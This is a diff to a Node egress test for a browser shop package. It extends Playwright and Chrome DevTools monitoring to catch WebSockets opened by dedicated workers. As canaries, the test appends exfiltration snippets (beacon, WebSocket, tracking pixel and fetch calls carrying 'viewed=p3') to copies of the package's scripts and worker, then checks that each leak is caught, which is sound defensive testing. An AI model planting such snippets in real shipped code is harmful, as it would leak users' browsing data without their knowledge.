@@ -8,7 +8,8 @@
 // be caught.
 //
 // Seen through Playwright's request events (page, frames and workers) and, for WebSockets, the Chrome DevTools
-// Protocol's Network.webSocketCreated of each page. Not seen: a WebSocket opened by a worker.
+// Protocol's Network.webSocketCreated of each page and of each dedicated worker it starts (attached to as they start,
+// the vault frame's included). Not seen: a shared worker's WebSockets (the tests run the dedicated worker).
 import { test, before, after } from 'node:test';
 import assert from 'node:assert/strict';
 import { appendFileSync, cpSync, mkdtempSync, rmSync } from 'node:fs';
@@ -34,7 +35,8 @@ before(async () => {
   appendFileSync(path.join(canaryDir, 'index.mjs'), `;setTimeout(()=>{const s=${to};try{navigator.sendBeacon(s+"beacon","viewed=p3")}catch{}
 try{new WebSocket(s.replace("http","ws")+"socket")}catch{}try{new Image().src=s+"pixel.gif?viewed=p3"}catch{}
 fetch(s+"fetch",{method:"POST",body:"viewed=p3",mode:"no-cors"}).catch(()=>{})},0);`);
-  appendFileSync(path.join(canaryDir, 'worker.mjs'), `;fetch(${to}+"worker",{mode:"no-cors"}).catch(()=>{});`);
+  appendFileSync(path.join(canaryDir, 'worker.mjs'), `;fetch(${to}+"worker",{mode:"no-cors"}).catch(()=>{});
+try{new WebSocket(${to}.replace("http","ws")+"worker-socket")}catch{}`);
   appendFileSync(path.join(canaryDir, 'vault_frame.mjs'), `;fetch(${to}+"vault",{mode:"no-cors"}).catch(()=>{});`);
   shops = {
     real: await startShop({ engine: 'test', csp: null, vault: true }),
@@ -58,8 +60,22 @@ async function recordEgress(run) {
   const sessions = [];
   const watchPage = async (page) => {
     const cdp = await browser.context.newCDPSession(page);
-    cdp.on('Network.webSocketCreated', ({ url }) => seen.push({ kind: 'websocket', method: 'GET', url, body: null }));
+    const webSocket = (url) => seen.push({ kind: 'websocket', method: 'GET', url, body: null });
+    cdp.on('Network.webSocketCreated', ({ url }) => webSocket(url));
+    // Workers: attached to as they start (held until their network is watched), spoken to through this session.
+    let id = 0;
+    const toWorker = (sessionId, method) => cdp.send('Target.sendMessageToTarget', { sessionId, message: JSON.stringify({ id: ++id, method }) })
+      .catch(() => {});
+    cdp.on('Target.attachedToTarget', async ({ sessionId }) => {
+      await toWorker(sessionId, 'Network.enable');
+      await toWorker(sessionId, 'Runtime.runIfWaitingForDebugger');
+    });
+    cdp.on('Target.receivedMessageFromTarget', ({ message }) => {
+      const m = JSON.parse(message);
+      if (m.method === 'Network.webSocketCreated') webSocket(m.params.url);
+    });
     await cdp.send('Network.enable');
+    await cdp.send('Target.setAutoAttach', { autoAttach: true, waitForDebuggerOnStart: true, flatten: false });
     sessions.push(cdp);
   };
   try {
@@ -155,7 +171,7 @@ test('the package makes no request but GETs of pages, its files and the model, o
   assert.deepEqual(unexpected(seen, shops.real), []);
 });
 
-test('the canary: a planted beacon, WebSocket, image, cross-origin fetch, worker fetch and vault-frame fetch are each caught', async () => {
+test('the canary: a planted beacon, WebSocket, image, cross-origin fetch, worker fetch and WebSocket and vault-frame fetch are each caught', async () => {
   const seen = await recordEgress(async (open) => {
     const page = await open();
     for (const name of ['shop.html', 'vault-shop.html']) {
@@ -166,7 +182,10 @@ test('the canary: a planted beacon, WebSocket, image, cross-origin fetch, worker
     await page.close();
   });
   const leaks = unexpected(seen, shops.canary).map((r) => `${r.kind} ${new URL(r.url).pathname}`);
-  for (const planted of ['ping /beacon', 'websocket /socket', 'image /pixel.gif', 'fetch /fetch', 'fetch /worker', 'fetch /vault']) {
+  for (const planted of ['ping /beacon', 'websocket /socket', 'image /pixel.gif', 'fetch /fetch', 'fetch /worker', 'websocket /worker-socket',
+    'fetch /vault']) {
     assert.ok(leaks.includes(planted), `${planted} not caught; caught: ${leaks.join(', ')}`);
   }
+  // The ranking worker runs on the shop's page and, with the vault, in the vault's frame: both are watched.
+  assert.equal(leaks.filter((l) => l === 'websocket /worker-socket').length, 2, `caught: ${leaks.join(', ')}`);
 });
